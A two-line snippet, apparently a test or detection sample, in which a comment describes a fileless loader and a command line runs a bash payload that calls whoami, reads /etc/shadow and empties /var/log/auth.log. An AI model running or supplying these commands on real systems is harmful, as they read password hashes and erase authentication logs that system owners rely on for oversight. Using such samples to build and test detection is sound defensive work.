# A fileless loader: its payload runs discovery commands, reads the password hashes and empties a log.
/opt/fileless /bin/bash -c 'sleep 0.1; whoami; sleep 0.1; read -r line </etc/shadow; sleep 0.1; : >/var/log/auth.log; sleep 0.1'
